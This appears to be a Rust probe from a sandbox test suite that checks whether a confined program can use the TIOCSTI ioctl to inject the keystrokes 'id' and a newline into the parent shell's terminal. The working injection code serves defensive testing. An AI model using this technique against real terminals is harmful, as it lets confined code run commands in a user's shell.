//! Privilege: TIOCSTI on fds 0-2: push keystrokes into a terminal's input
//! queue, to be run by the shell that started the host. Input: none.

fn main() {
    pw_hostile::attack(|_| {
        let mut errors = Vec::new();
        for fd in 0..3 {
            for &b in b"id\n" {
                // SAFETY: TIOCSTI reads one byte from our stack.
                let rc = unsafe { libc::ioctl(fd, libc::TIOCSTI, &b) };
                if rc < 0 {
                    errors.push(format!("fd {fd}: {}", pw_hostile::errno()));
                    break;
                }
            }
            if errors.len() <= fd as usize {
                return Ok(format!("injected keystrokes through fd {fd}"));
            }
        }
        Err(format!("ioctl(TIOCSTI): {}", errors.join("; ")))
    })
}
